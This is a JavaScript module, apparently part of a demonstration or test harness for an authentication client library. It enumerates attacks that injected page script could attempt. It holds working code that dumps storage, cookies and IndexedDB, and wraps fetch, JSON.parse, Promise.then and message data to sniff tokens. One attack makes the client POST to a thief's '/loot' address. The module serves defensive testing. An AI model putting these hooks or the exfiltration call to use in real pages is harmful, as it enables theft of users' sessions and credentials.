/**
 * What script that got into this page would do. Each attack gets the running client and its options, as a thief who has read
 * the application's source would have them, and returns everything it could lay its hands on, as text.
 */
import { createAuthClient } from "/authsafe/dist/index.js";

/** @type {{id: string, title: string, how: string, run(about: {auth: object, options: object, address: string, thief: string}): Promise<string>}[]} */
export const attacks = [
  {
    id: "storage",
    title: "Copy everything that is stored",
    how: "Reads localStorage, sessionStorage, the cookies and every IndexedDB database of this origin.",
    async run() {
      const stored = { ...localStorage, ...sessionStorage };
      return JSON.stringify([Object.entries(stored), decodeURIComponent(document.cookie), await databases()]);
    },
  },
  {
    id: "listen",
    title: "Listen while the application works",
    how: "Replaces fetch, JSON.parse, the Promise methods and the data of messages by functions that listen, then has the client renew and call the API.",
    async run({ auth, address }) {
      const heard = [];
      const restore = listen((value) => heard.push(value));
      try {
        await auth.refresh?.().catch(() => {});
        const response = await auth.fetch(address).catch(() => undefined);
        await response?.text();
      } finally {
        restore();
      }
      return heard.join("\n");
    },
  },
  {
    id: "second",
    title: "Start a second client",
    how: "Makes a client with the application’s own options, in the page and with exposeAccessToken, and asks it for the token.",
    async run({ options }) {
      const own = options.mode === "token" && { isolation: "page", exposeAccessToken: true, restore: "refresh-token" };
      const rival = createAuthClient({ ...options, ...own });
      try {
        await rival.init();
        // In session mode there is no token, and so no such method.
        return (await rival.getAccessToken?.()) ?? "";
      } finally {
        rival.dispose();
      }
    },
  },
  {
    id: "send",
    title: "Have the client call the thief",
    how: "Asks the client to fetch an address of the thief’s, hoping that the credential goes along.",
    async run({ auth, thief }) {
      const response = await auth.fetch(`${thief}/loot`, { method: "POST", body: "" });
      return JSON.stringify(await response.json());
    },
  },
  {
    id: "use",
    title: "Use the sign-in where it is",
    how: "Calls the API through the client, as the application does. Nothing in a page can prevent this; but it ends with the page.",
    async run({ auth, address }) {
      const response = await auth.fetch(address);
      return `the API’s answer: ${await response.text()}`;
    },
  },
];

async function databases() {
  const all = [];
  for (const { name } of (await indexedDB.databases?.()) ?? []) {
    const database = await settled(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      all.push(await settled(database.transaction(store).objectStore(store).getAll()));
    }
    database.close();
  }
  return all;
}

function settled(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}

/** Puts the listening functions in place. Returns what puts the real ones back. */
function listen(hear) {
  const undo = [];
  const put = (owner, name, descriptor) => {
    const real = Object.getOwnPropertyDescriptor(owner, name);
    Object.defineProperty(owner, name, { ...real, ...descriptor(real) });
    undo.push(() => Object.defineProperty(owner, name, real));
  };
  const tell = (value) => {
    if (typeof value === "string") hear(value);
    else if (value instanceof Headers) hear(JSON.stringify([...value]));
    else if (value instanceof Request) hear(`${value.url} ${JSON.stringify([...value.headers])}`);
    else if (value instanceof Response)
      value
        .clone()
        .text()
        .then(hear, () => {});
    else if (value && typeof value === "object") hear(safely(value));
  };
  put(globalThis, "fetch", ({ value: real }) => ({
    value: (input, init) => {
      tell(input);
      tell(init?.headers);
      tell(init?.body instanceof URLSearchParams ? String(init.body) : init?.body);
      const answer = real(input, init);
      answer.then(tell, () => {});
      return answer;
    },
  }));
  const { stringify } = JSON;
  const safely = (value) => {
    try {
      return stringify(value) ?? "";
    } catch {
      return "";
    }
  };
  put(JSON, "parse", ({ value: real }) => ({
    value: (text, ...rest) => (tell(text), real(text, ...rest)),
  }));
  put(Promise.prototype, "then", ({ value: real }) => ({
    value(resolved, rejected) {
      const listening = typeof resolved === "function" ? (value) => (tell(value), resolved(value)) : resolved;
      return Reflect.apply(real, this, [listening, rejected]);
    },
  }));
  put(MessageEvent.prototype, "data", ({ get }) => ({
    get() {
      const value = Reflect.apply(get, this, []);
      tell(value);
      return value;
    },
  }));
  return () => undo.reverse().forEach((put) => put());
}
